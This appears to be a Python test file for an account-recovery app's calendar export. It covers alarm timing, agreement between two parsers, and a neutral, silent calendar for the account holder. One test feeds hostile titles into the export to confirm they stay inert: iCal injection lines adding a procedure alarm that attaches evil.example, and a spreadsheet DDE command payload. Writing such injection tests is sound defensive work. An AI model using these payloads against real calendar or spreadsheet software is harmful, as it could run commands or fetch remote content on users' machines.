"""Calendars: two parsers read them, ids stay, bells ring for who files and for nobody else, titles tell nobody."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta

import icalendar
import pytest
import vobject

from recover.case.survey import DueItem
from recover.packet.formats.calendar import calendar
from recover.packet.readers.profiles import load_profiles
from recover.packet.readers.view import View
from tests.packet import cases

DAY = DueItem("a" * 32, "deadline", "Appeal the suspension", "open", on=date(2027, 4, 10), file_by=date(2027, 4, 9))
HOUR = DueItem(
    "b" * 32,
    "deadline",
    "Undo the change",
    "open",
    on=date(2026, 10, 14),
    at=datetime(2026, 10, 14, 16, 40, tzinfo=UTC),
)
EARLY = DueItem(
    "c" * 32, "deadline", "Before nine", "overdue", on=date(2026, 10, 14), at=datetime(2026, 10, 14, 4, 0, tzinfo=UTC)
)
CHECK = DueItem("d" * 32, "check", "Look into the mailbox, again; please", "open", on=date(2026, 10, 20))
DONE = DueItem("e" * 32, "deadline", "Done already", "done", on=date(2026, 10, 20))
ALL = (DAY, HOUR, EARLY, CHECK, DONE)


def made(*items: DueItem, neutral: bool = False) -> bytes:
    """Return the calendar of a test case."""
    source = cases.source()
    profiles = load_profiles(source.templates)
    view = View(source, profiles, profiles.get("victim" if neutral else "partner"))
    return calendar(items or ALL, view, neutral=neutral)


def read(content: bytes) -> dict[str, icalendar.Event]:
    """Return the entries by id, as icalendar reads them."""
    found = icalendar.Calendar.from_ical(content)
    return {str(event["UID"]): event for event in found.events}


def bells(event: icalendar.Event) -> list[timedelta | datetime]:
    """Return when an entry rings, as it is written."""
    return [alarm["TRIGGER"].dt for alarm in event.subcomponents if alarm.name == "VALARM"]


def test_two_parsers_read_the_same() -> None:
    """What icalendar and vobject find agree in ids, titles and days, and what is done is in neither."""
    first = read(made())
    second = {event.uid.value: event for event in vobject.readOne(made().decode()).vevent_list}
    assert set(first) == set(second) == {each.uid for each in ALL if each is not DONE}
    for uid, event in first.items():
        assert str(event["SUMMARY"]) == second[uid].summary.value
        assert event["DTSTART"].dt == second[uid].dtstart.value
        assert len(bells(event)) == len(getattr(second[uid], "valarm_list", []))


def test_a_day_is_all_day_on_the_last_working_day() -> None:
    """The entry stands on the day to file by; the last day itself is named in its text."""
    event = read(made())[DAY.uid]
    assert event["DTSTART"].dt == date(2027, 4, 9)
    assert event["DTEND"].dt == date(2027, 4, 10)
    assert "10 April 2027" in str(event["DESCRIPTION"])


def test_a_deadline_rings_the_day_before_and_in_the_morning() -> None:
    """At nine of the day before and at nine of the day, on the reader's clock."""
    assert bells(read(made())[DAY.uid]) == [timedelta(hours=-15), timedelta(hours=9)]


def test_an_hour_rings_the_day_before_and_at_nine_in_the_zone_of_the_case() -> None:
    """Nine in Baku is five in UTC; what ends before nine rings an hour before."""
    found = read(made())
    assert bells(found[HOUR.uid]) == [timedelta(days=-1), datetime(2026, 10, 14, 5, 0, tzinfo=UTC)]
    assert bells(found[EARLY.uid]) == [timedelta(days=-1), timedelta(hours=-1)]


def test_a_check_rings_no_bell() -> None:
    """Only what can be missed for good rings."""
    assert bells(read(made())[CHECK.uid]) == []


def test_the_account_holders_calendar_says_nothing_and_is_silent() -> None:
    """Neutral titles, no text, no bell, and no name of a program in the file."""
    content = made(neutral=True)
    for event in read(content).values():
        assert str(event["SUMMARY"]) == "Reminder"
        assert "DESCRIPTION" not in event
        assert bells(event) == []
    assert b"recover" not in content.lower()
    assert b"amber" not in content


@pytest.mark.parametrize(
    "hostile",
    [
        "x\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:http://evil.example\r\nEND:VALARM",
        "x\nEND:VEVENT\nEND:VCALENDAR",
        'x;ATTACH="http://evil.example":y,z\\n',
        "x" * 3000,
        "=\u202ecmd|' /C calc'!A0\u0000",
    ],
)
def test_a_title_stays_a_title(hostile: str) -> None:
    """Line breaks and separators in a text make no property, no bell and no entry of their own."""
    content = made(DueItem("f" * 32, "check", hostile, "open", on=date(2026, 10, 20), why=hostile, note=hostile))
    (event,) = read(content).values()
    assert [each.name for each in event.walk()] == ["VEVENT"]
    assert not {"ATTACH", "ACTION"} & set(event)
    assert all(len(line) <= 75 for line in content.split(b"\r\n"))
    assert len(vobject.readOne(content.decode()).vevent_list) == 1


def test_the_same_dates_are_the_same_bytes() -> None:
    """Stamped with the day the packet is as of; no clock, no chance."""
    assert made() == made()
    assert b"DTSTAMP:20261013T080000Z" in made()
